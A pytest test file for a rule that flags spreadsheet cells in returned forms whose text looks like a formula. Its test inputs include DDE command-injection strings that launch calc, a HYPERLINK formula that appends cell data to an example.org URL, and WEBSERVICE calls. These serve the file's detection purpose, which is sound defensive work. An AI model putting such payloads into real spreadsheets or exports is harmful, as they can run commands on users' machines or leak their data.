"""Rule `return-formula-text`: no text starts like a formula."""

import pytest

from returns_forms import PART, package_of
from rules.returns.returned import (
    at_rule,
    cell,
    edited,
    figures,
    healthy,
    only,
    returned,
    shape,
    with_cells,
    with_parts,
)

RULE = "return-formula-text"


def test_words_and_numbers_pass() -> None:
    assert at_rule(RULE, healthy()) == ()


@pytest.mark.parametrize(
    "text",
    [
        "=SUM(E13:E15)",
        "=1+2",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org/?q="&A1,"Click")',
        "  =WEBSERVICE(A1)",
        "= 60 people",
    ],
)
def test_text_like_a_formula_is_found_wherever_it_is_typed(text: str) -> None:
    (finding,) = only(RULE, with_cells({("Outcome measure", 1): text}))
    assert shape(finding) == ("error", cell(("Outcome measure", 1)))
    assert figures(finding)[1] == " ".join(text.split())


def test_in_an_amount_it_silences_the_sums_and_says_so() -> None:
    (finding,) = only(RULE, with_cells({("Q1", 1): "=2500*2"}))
    assert shape(finding) == ("error", cell(("Q1", 1)))
    assert finding.message.endswith("so no sum that needs it was checked")


def test_a_named_cell_is_looked_at() -> None:
    (finding,) = only(RULE, with_cells({"Declared_by": "=A1"}))
    assert shape(finding) == ("error", cell("Declared_by"))


@pytest.mark.parametrize(
    "text", ["- fewer burglaries", "-5%", "+44 116 222", "5 = enough", "down 5-10", ""]
)
def test_dashes_numbers_and_blanks_are_no_formulas(text: str) -> None:
    assert at_rule(RULE, with_cells({("Outcome measure", 1): text})) == ()


def with_formula(place: str, formula: str) -> bytes:
    return edited(lambda book: book["Return"].__setitem__(place, formula))


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://example.org","x")', "=cmd|'/C calc'!A0", "=WEBSERVICE(A1)"]
)
def test_a_formula_that_reaches_outside_is_found_in_words_and_amounts(formula: str) -> None:
    for header in ("Outcome measure", "Q1"):
        place = cell((header, 1))
        (finding,) = only(RULE, with_formula(place, formula))
        assert (shape(finding), figures(finding)[1]) == (("error", place), formula)
        assert "that leads outside the workbook" in finding.message


def test_a_formula_without_a_value_says_nothing() -> None:
    place = cell("Declared_on")
    (finding,) = only(RULE, with_formula(place, "=TODAY()"))
    assert (shape(finding), figures(finding)[1]) == (("error", place), "=TODAY()")


def test_a_formula_that_shows_words_passes() -> None:
    old, new = b'<c r="C14"', b'<c r="C14" t="str"><f>C13</f><v>Us</v></c><c r="C14"'
    package = package_of(healthy())
    part = package.parts[PART]
    start = part.index(old)
    end = part.index(b"</c>", start) + len(b"</c>")
    changed = part[:start] + new[: new.rindex(b"<c")] + part[end:]
    assert at_rule(RULE, with_parts({PART: changed})) == ()
    assert returned(with_parts({PART: changed})).rows[1].entries["Provider"].text == "Us"
